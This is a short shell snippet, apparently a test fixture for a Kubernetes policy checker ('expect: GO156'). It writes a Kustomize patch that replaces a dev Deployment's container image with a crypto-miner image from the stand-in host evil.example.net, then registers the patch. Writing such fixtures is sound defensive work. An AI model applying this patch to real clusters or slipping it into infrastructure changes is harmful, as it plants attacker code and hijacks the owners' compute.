# expect: GO156
# image from an outside registry in dev (a crypto miner)
cat > clusters/dev/img.yaml <<'Y'
- op: replace
  path: /spec/template/spec/containers/0/image
  value: evil.example.net/miner:1.0
Y
printf 'patches:\n  - path: img.yaml\n    target:\n      kind: Deployment\n' >> clusters/dev/kustomization.yaml
